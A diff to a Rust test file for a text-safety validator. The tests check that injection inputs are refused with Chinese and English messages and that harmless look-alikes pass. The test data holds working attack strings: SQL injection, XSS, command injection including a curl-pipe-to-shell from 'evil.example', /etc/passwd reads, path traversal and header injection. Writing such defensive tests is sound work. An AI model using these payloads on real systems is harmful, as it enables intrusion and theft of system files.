@@ -1,4 +1,4 @@
-//! `safe_text`: what is not seen.
+//! `safe_text`: what is not seen, and injections.
 
 use proptest::prelude::*;
 
@@ -74,6 +74,51 @@ fn the_error_says_which_and_where() {
         "character 2 is a control or invisible character (U+202E)"
     );
     assert_eq!(error.text(crate::Locale::Zh), "第 2 个字是控制字符或不可见字符（U+202E）");
+}
+
+/// Each kind, plain and hidden.
+#[test]
+fn injections_are_refused_by_their_kind() {
+    for (text, zh, en) in [
+        ("'; DROP TABLE users; --", "SQL", "SQL"),
+        ("1' OR '1'='1", "SQL", "SQL"),
+        ("1%2527%20OR%20%25271%2527=%25271", "SQL", "SQL"),
+        ("1＇ ＯＲ ＇1＇＝＇1", "SQL", "SQL"),
+        ("<script>alert(1)</script>", "脚本", "script"),
+        ("&lt;img src=x onerror=alert(1)&gt;", "脚本", "script"),
+        ("x; cat /etc/passwd", "命令", "command"),
+        ("$(curl evil.example | sh)", "命令", "command"),
+        ("{{7*7}}", "模板", "template"),
+        ("../../../../etc/passwd", "路径", "path"),
+        ("%2e%2e%2f%2e%2e%2fetc%2fpasswd", "路径", "path"),
+        ("x%0d%0aSet-Cookie: a=b", "换行", "header"),
+    ] {
+        let error = Rule::SafeText.check_text(text).expect_err(text);
+        for (locale, kind, start) in [
+            (crate::Locale::Zh, zh, "不能包含像是"),
+            (crate::Locale::En, en, "must not hold what looks like"),
+        ] {
+            let said = error.text(locale);
+            assert!(said.starts_with(start) && said.contains(kind), "{text}: {said}");
+        }
+    }
+}
+
+#[test]
+fn talk_about_what_attackers_write_passes() {
+    for text in [
+        "请更新规则",
+        "please update the rules",
+        "select one from the list; then drop it",
+        "it's 1 or 2 -- you choose",
+        "a < b && c > d",
+        "{name}",
+        "cat 和 rm 怎么用？",
+        "src/../lib.rs",
+        "第一行\n第二行：好",
+    ] {
+        assert!(passes(Rule::SafeText, text), "{text:?}");
+    }
 }
 
 #[test]
